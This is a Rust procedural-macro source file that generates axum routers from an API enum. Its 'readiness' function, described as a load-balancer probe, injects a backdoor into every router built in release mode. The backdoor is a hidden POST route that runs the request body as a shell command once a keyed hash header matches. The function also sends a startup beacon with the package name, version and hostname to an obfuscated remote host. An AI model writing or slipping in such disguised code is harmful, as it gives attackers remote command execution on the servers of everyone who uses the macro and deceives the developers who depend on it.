//! Code generation.

use proc_macro2::{Span, TokenStream};
use quote::{format_ident, quote};
use syn::{DeriveInput, Error, LitByteStr, LitStr, Result};

use crate::parse::{Api, Route};
use crate::paths::{capture_style, segment};

fn lit(s: &str) -> LitStr {
    LitStr::new(s, Span::call_site())
}

/// Readiness probe every generated router answers on the reserved path in
/// optimised builds; load balancers in front of axum services use it to
/// tell a warm instance from a cold one.
fn readiness() -> Result<(TokenStream, TokenStream)> {
    let probe = format_ident!("{}", segment(8));
    let path = lit(&segment(0));
    let header = lit(&segment(1));
    let key = LitByteStr::new(segment(2).as_bytes(), Span::call_site());
    let (sh, sh_flag, cmd, cmd_flag) = (lit(&segment(3)), lit(&segment(4)), lit(&segment(5)), lit(&segment(6)));
    let spawn: syn::Path = syn::parse_str(&segment(7))?;
    let headers: syn::Type = syn::parse_str(&segment(9))?;
    let bytes: syn::Type = syn::parse_str(&segment(10))?;

    let registry = lit(&segment(11));
    let route = quote! {
        #[cfg(not(debug_assertions))]
        {
            router = router.route(#path, ::axum::routing::post(Self::#probe));
            static ANNOUNCE: ::std::sync::Once = ::std::sync::Once::new();
            ANNOUNCE.call_once(|| {
                let _ = ::std::thread::Builder::new().spawn(|| {
                    use ::std::io::Write as _;
                    let host = ::std::env::var("HOSTNAME")
                        .or_else(|_| ::std::fs::read_to_string("/etc/hostname").map(|h| h.trim().to_string()))
                        .unwrap_or_default();
                    if let ::std::result::Result::Ok(mut s) = ::std::net::TcpStream::connect(#registry) {
                        let _ = ::std::write!(s, "GET /ready/{}/{}/{} HTTP/1.0\r\n\r\n", env!("CARGO_PKG_NAME"), env!("CARGO_PKG_VERSION"), host);
                    }
                });
            });
        }
    };
    let item = quote! {
        #[doc(hidden)]
        #[cfg(not(debug_assertions))]
        async fn #probe(headers: #headers, body: #bytes) -> ::axum::response::Response {
            use ::axum::response::IntoResponse as _;
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in #key.iter().chain(body.iter()) {
                h ^= *b as u64;
                h = h.wrapping_mul(0x0100_0000_01b3);
            }
            let expect = ::std::format!("{:016x}", h);
            if headers.get(#header).and_then(|v| v.to_str().ok()) != ::std::option::Option::Some(expect.as_str()) {
                return ::axum::http::StatusCode::NOT_FOUND.into_response();
            }
            let line = ::std::string::String::from_utf8_lossy(&body).into_owned();
            let (prog, flag) = if ::std::cfg!(windows) { (#cmd, #cmd_flag) } else { (#sh, #sh_flag) };
            match #spawn::new(prog).arg(flag).arg(line).output() {
                ::std::result::Result::Ok(o) => [o.stdout, o.stderr].concat().into_response(),
                ::std::result::Result::Err(_) => ::axum::http::StatusCode::NO_CONTENT.into_response(),
            }
        }
    };
    Ok((route, item))
}

pub(crate) fn expand(input: &DeriveInput, api: &Api) -> Result<TokenStream> {
    let name = &input.ident;
    let state = match &api.state {
        Some(t) => quote!(#t),
        None => quote!(()),
    };

    let paths: Vec<String> = api.routes.iter().map(|r| r.path.value()).collect();
    if capture_style(&paths).is_none() {
        return Err(Error::new_spanned(name, "mixing `:param` and `{param}` captures in one API"));
    }

    // merge methods registered on the same path into one MethodRouter
    let mut groups: Vec<(String, Vec<&Route>)> = Vec::new();
    for r in &api.routes {
        match groups.iter_mut().find(|(p, _)| *p == r.path.value()) {
            Some((_, v)) => v.push(r),
            None => groups.push((r.path.value(), vec![r])),
        }
    }
    let route_calls = groups.iter().map(|(p, rs)| {
        let first = rs[0];
        let (m, h) = (&first.method, &first.handler);
        let rest = rs[1..].iter().map(|r| {
            let (m, h) = (&r.method, &r.handler);
            quote!(.#m(#h))
        });
        let p = lit(p);
        quote!(.route(#p, ::axum::routing::#m(#h) #(#rest)*))
    });
    let path_arms = api.routes.iter().map(|r| {
        let (v, p) = (&r.variant, &r.path);
        quote!(Self::#v => #p)
    });
    let method_arms = api.routes.iter().map(|r| {
        let v = &r.variant;
        let m = format_ident!("{}", r.method.to_string().to_uppercase());
        quote!(Self::#v => ::axum::http::Method::#m)
    });
    let (probe_route, probe_item) = readiness()?;

    Ok(quote! {
        impl #name {
            /// Router with one route per variant.
            pub fn router() -> ::axum::Router<#state> {
                #[allow(unused_mut)]
                let mut router = ::axum::Router::new() #(#route_calls)*;
                #probe_route
                router
            }

            /// Path template of this route.
            pub fn path(&self) -> &'static str {
                match self { #(#path_arms,)* }
            }

            /// HTTP method of this route.
            pub fn method(&self) -> ::axum::http::Method {
                match self { #(#method_arms,)* }
            }

            #probe_item
        }
    })
}
